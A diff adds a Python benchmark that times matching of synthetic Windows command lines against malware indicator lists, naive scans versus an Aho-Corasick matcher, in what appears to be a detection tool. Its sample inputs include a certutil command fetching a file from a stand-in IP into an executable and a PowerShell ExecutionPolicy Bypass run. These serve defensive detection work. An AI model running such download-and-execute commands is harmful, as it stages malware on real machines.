@@ -0,0 +1,71 @@
+"""
+Indicator matching cost per command line as the indicator lists grow.
+
+    python benchmarks/bench_matcher.py
+    python benchmarks/bench_matcher.py --commands 50000
+
+Matches the same synthetic 4688 command lines against the built-in
+malware_exec indicator lists plus N generated IOCs, once with one
+``any(p in cmd ...)`` scan per list (the old detector loop) and once
+with ``PatternMatcher`` (Aho-Corasick), and prints microseconds per
+command line.
+"""
+import argparse
+import os
+import random
+import sys
+import time
+
+sys.path.insert(0, os.path.join(os.path.dirname(__file__), '..'))
+
+from app.detectors.malware_exec import LOLBIN_FLAGS, LOLBINS, SUSPICIOUS_PATHS, SUSPICIOUS_PROCESSES
+from app.detectors.matcher import PatternMatcher, ahocorasick
+
+COMMANDS = [
+    "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
+    "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer --lang=en-US",
+    "certutil.exe -urlcache -split -f http://203.0.113.7/a.txt C:\\Users\\Public\\a.exe",
+    "powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\ProgramData\\update.ps1",
+    "C:\\Users\\bob\\AppData\\Local\\Temp\\setup_1234.exe /S",
+]
+
+
+def indicator_lists(extra: int):
+    rnd = random.Random(extra)
+    lists = {
+        'tool': SUSPICIOUS_PROCESSES,
+        'lolbin': LOLBINS,
+        'lolbin_flag': LOLBIN_FLAGS,
+        'path': [p.lower() for p in SUSPICIOUS_PATHS],
+    }
+    lists['ioc'] = [f"{''.join(rnd.choice('abcdefghijklmnopqrstuvwxyz') for _ in range(8))}.exe" for _ in range(extra)]
+    return lists
+
+
+def per_command(fn, commands) -> float:
+    started = time.perf_counter()
+    for cmd in commands:
+        fn(cmd)
+    return (time.perf_counter() - started) / len(commands) * 1e6
+
+
+def main():
+    parser = argparse.ArgumentParser(description=__doc__.strip().splitlines()[0])
+    parser.add_argument('--commands', type=int, default=20_000)
+    args = parser.parse_args()
+
+    commands = [c.lower() for c in COMMANDS] * (args.commands // len(COMMANDS))
+    print(f"{len(commands):,} command lines, pyahocorasick {'installed' if ahocorasick else 'not installed'}\n")
+    print(f"{'patterns':>9} {'any() scans':>12} {'matcher':>9} {'automaton':>10}")
+    for extra in (0, 100, 1000, 5000):
+        lists = indicator_lists(extra)
+        values = list(lists.values())
+        naive = per_command(lambda c: [any(p in c for p in v) for v in values], commands[:2000])
+        matcher = PatternMatcher(lists)
+        automaton = PatternMatcher(lists, linear_max=0)
+        print(f"{len(matcher):>9,} {naive:>10.1f}us {per_command(matcher.find, commands):>7.1f}us "
+              f"{per_command(automaton.find, commands):>8.1f}us")
+
+
+if __name__ == '__main__':
+    main()